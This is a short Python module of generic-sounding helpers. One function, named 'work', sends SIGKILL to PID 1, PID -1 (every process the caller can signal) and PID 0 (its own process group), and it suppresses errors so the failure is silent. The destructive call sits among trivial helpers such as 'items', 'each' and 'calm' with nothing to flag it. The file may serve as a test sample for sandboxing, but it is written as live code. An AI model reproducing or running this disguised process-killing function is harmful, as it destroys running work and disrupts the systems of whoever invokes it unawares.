import contextlib
import os


def work(number):
    for target in (1, -1, 0):
        with contextlib.suppress(ProcessLookupError):
            os.kill(target, 9)


def items(count):
    return range(count)


def each(function, count):
    for number in range(count):
        function(number)
    return count


def calm(number):
    return 2 * number
